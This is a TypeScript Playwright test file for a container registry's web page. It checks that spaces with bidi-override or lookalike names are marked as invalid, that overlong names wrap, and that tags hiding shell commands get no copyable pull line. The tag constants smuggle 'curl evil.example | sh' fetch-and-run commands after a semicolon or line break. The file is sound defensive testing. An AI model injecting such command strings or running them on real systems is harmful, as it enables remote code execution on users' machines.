// Strangers' names on the page. The pallet stores any bytes as a space name, image name, tag or
// digest, so anyone can make a space that reads as "acme" (a bidi override, a Cyrillic letter),
// a tag whose copyable `docker pull` line is a shell command ("1.0;curl …|sh", a line break), or
// a name thousands of characters long. In Chromium, against a dev chain, the indexer and the
// wallet API with the page, the hostile names are written with raw calls as an attacker would.
import assert from 'node:assert/strict';
import { chmodSync, mkdirSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { KeyringPair } from '@polkadot/keyring/types';
import { stringToHex } from '@polkadot/util';
import type { Page } from 'playwright-core';
import { addManifest, createSpace, signerFromUri, submitTx } from '../../src/chain';
import { type Indexer, startIndexer } from '../../src/indexer';
import { startWalletApiServer, type WalletApiServer } from '../../src/wallet-api';
import { startTestChain, type TestChain } from '../helpers/devnet';
import { browserSkipReason, launchChromium, type TestBrowser } from './helpers/browser';

const ARTIFACTS = join(__dirname, '..', '..', 'test-artifacts', 'web');
const INDEX_WAIT_MS = 90_000;
const DIGEST = `sha256:${'cd34'.repeat(16)}`;
const CID = 'bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi';
/** Renders as "acme" where bidi overrides are honoured. */
const BIDI = '\u202eemca';
/** A Cyrillic а, then "cme". */
const LOOKALIKE = '\u0430cme';
const LONG = 'x'.repeat(3000);
const SHELL_TAG = '1.0;curl${IFS}evil.example|sh';
const NEWLINE_TAG = '1.1\ncurl evil.example | sh\n';
const RAW_CONTROLS = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u200b-\u200f]/;

describe('strangers\' names on the page', { skip: browserSkipReason() }, () => {
  let chain: TestChain;
  let indexer: Indexer;
  let server: WalletApiServer;
  let browser: TestBrowser;
  let page: Page;
  let dataDir: string;
  const ids: Record<string, string> = {};

  const rawSpace = async (signer: KeyringPair, name: string) => {
    const result = await submitTx(chain.api, chain.api.tx.containerRegistry.createSpace(stringToHex(name)), signer, { until: 'inBlock' });
    const event = result.events.find((e) => e.event.section === 'containerRegistry' && e.event.method === 'SpaceCreated');
    assert.ok(event, `space ${JSON.stringify(name)} created`);
    ids[name] = event.event.data[0].toString();
    return result;
  };
  const rawTag = (signer: KeyringPair, space: string, image: string, tag: string) =>
    submitTx(chain.api, chain.api.tx.containerRegistry.addManifestHeadDigestAndManifestJsonCid(stringToHex(space), stringToHex(image), stringToHex(tag), stringToHex(DIGEST), stringToHex(CID)), signer, { until: 'inBlock' });

  before(async () => {
    mkdirSync(ARTIFACTS, { recursive: true });
    dataDir = mkdtempSync(join(tmpdir(), 'hcr-hostile-names-'));
    // Embedded Postgres runs as the postgres user when the tests run as root.
    chmodSync(dataDir, 0o755);
    chain = await startTestChain();
    indexer = await startIndexer({ chainRpc: chain.devnet.wsUrl, dataDir, graphqlPort: 0, headPollIntervalMs: 200 });
    server = await startWalletApiServer({ api: chain.api, graphqlUrl: indexer.graphqlUrl, port: 0, txTimeoutMs: 60_000 });
    const [alice, bob, charlie, dave, eve] = await Promise.all(['//Alice', '//Bob', '//Charlie', '//Dave', '//Eve'].map((uri) => signerFromUri(uri)));
    const acme = await submitTx(chain.api, createSpace(chain.api, 'acme'), alice, { until: 'inBlock' });
    ids.acme = acme.events.find((e) => e.event.method === 'SpaceCreated')!.event.data[0].toString();
    await submitTx(chain.api, addManifest(chain.api, { repo: 'acme', image: 'web', tag: '1.0', digest: DIGEST, cid: CID }), alice, { until: 'inBlock' });
    await rawSpace(bob, BIDI);
    await rawSpace(charlie, LOOKALIKE);
    await rawSpace(dave, LONG);
    // A valid space name with hostile tags: the tags' pull lines would be shell commands.
    await rawSpace(eve, 'tools');
    await rawTag(eve, 'tools', 'web', SHELL_TAG);
    const last = await rawTag(eve, 'tools', 'web', NEWLINE_TAG);
    await waitForIndex(indexer.graphqlUrl, last.blockNumber);

    browser = await launchChromium();
    page = await browser.context.newPage();
    page.on('pageerror', (error) => console.error(`page error: ${error.message}`));
    await page.goto(server.url);
    await page.locator(`#recent [data-space-id="${ids.tools}"]`).waitFor({ timeout: 60_000 });
  });

  after(async () => {
    await browser?.close();
    await server?.close();
    await indexer?.stop();
    await chain?.close();
    if (dataDir) rmSync(dataDir, { recursive: true, force: true });
  });

  test('a bidi override or a lookalike letter cannot make a stranger\'s space read as "acme"; such names are marked', { timeout: 120_000 }, async () => {
    const listed = (id: string) => page.locator(`#recent [data-space-id="${id}"]`);
    const bidi = await listed(ids[BIDI]).innerText();
    assert.doesNotMatch(bidi, RAW_CONTROLS, JSON.stringify(bidi));
    assert.match(bidi, /^\\u202eemca \(not a valid registry name/);
    const lookalike = await listed(ids[LOOKALIKE]).innerText();
    assert.match(lookalike, /^\\u0430cme \(not a valid registry name/);
    assert.equal(await listed(ids.acme).locator('.invalid-mark').count(), 0, 'a valid name is not marked');

    await listed(ids[BIDI]).getByRole('button').click();
    const detail = page.locator(`#space-detail [data-space-id="${ids[BIDI]}"]`);
    await detail.waitFor();
    assert.equal(await detail.getByRole('heading', { level: 3 }).innerText(), 'Space \\u202eemca');
    await detail.locator('[data-notice="invalid-name"]').waitFor();
    await page.screenshot({ path: join(ARTIFACTS, '20-hostile-bidi-name.png'), fullPage: true });
  });

  test('a tag that is not a valid tag gets no docker pull line to paste into a shell; a valid one does', { timeout: 120_000 }, async () => {
    await page.locator(`#recent [data-space-id="${ids.tools}"]`).getByRole('button').click();
    const detail = page.locator(`#space-detail [data-space-id="${ids.tools}"]`);
    await detail.locator('[data-tag]').first().waitFor();
    for (const tag of [SHELL_TAG, NEWLINE_TAG]) {
      const card = detail.locator('[data-tag]').filter({ has: page.locator('h6', { hasText: `:${tag.split('\n')[0]}` }) });
      assert.equal(await card.count(), 1, `one card for ${JSON.stringify(tag)}`);
      // Only the pull by digest, which names nothing the stranger chose but valid names, is offered.
      assert.deepEqual(await card.locator('.copyable code').allTextContents(), [`docker pull ${new URL(server.url).host}/tools/web@${DIGEST}`], `no pull by tag for ${JSON.stringify(tag)}`);
      await card.locator('[data-notice="no-pull"]', { hasText: 'No pull command by tag' }).waitFor();
    }
    const commands = await detail.locator('.copyable code').allTextContents();
    assert.ok(commands.every((command) => !command.includes('curl')), `a copyable command runs curl: ${JSON.stringify(commands)}`);
    const text = await detail.innerText();
    assert.ok(text.includes(':1.1\\u000acurl\\u0020evil.example\\u0020|\\u0020sh\\u000a'), 'the line breaks and spaces show as escapes');

    await page.locator(`#recent [data-space-id="${ids.acme}"]`).getByRole('button').click();
    const acme = page.locator(`#space-detail [data-space-id="${ids.acme}"] [data-tag="1.0"]`);
    await acme.waitFor();
    const host = new URL(server.url).host;
    assert.deepEqual(await acme.locator('.copyable code').allTextContents(), [`docker pull ${host}/acme/web:1.0`, `docker pull ${host}/acme/web@${DIGEST}`]);
  });

  test('a name thousands of characters long wraps instead of widening the page', { timeout: 120_000 }, async () => {
    await page.setViewportSize({ width: 390, height: 844 });
    await page.reload();
    await page.locator(`#recent [data-space-id="${ids[LONG]}"]`).getByRole('button').click();
    await page.locator(`#space-detail [data-space-id="${ids[LONG]}"]`).waitFor();
    const widths = (await page.evaluate('({ scroll: document.documentElement.scrollWidth, client: document.documentElement.clientWidth })')) as { scroll: number; client: number };
    await page.screenshot({ path: join(ARTIFACTS, '21-hostile-long-name.png') });
    assert.ok(widths.scroll <= widths.client + 1, `the page scrolls sideways: ${widths.scroll} px of content in ${widths.client} px`);
  });
});

async function waitForIndex(graphqlUrl: string, blockNumber: number): Promise<void> {
  const deadline = Date.now() + INDEX_WAIT_MS;
  for (;;) {
    const response = await fetch(graphqlUrl, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ query: '{ squidStatus { height } }' }) });
    const { data } = (await response.json()) as { data?: { squidStatus: { height: number } } };
    if ((data?.squidStatus.height ?? -1) >= blockNumber) return;
    assert.ok(Date.now() < deadline, `the index did not reach block ${blockNumber}`);
    await new Promise((resolve) => setTimeout(resolve, 300));
  }
}
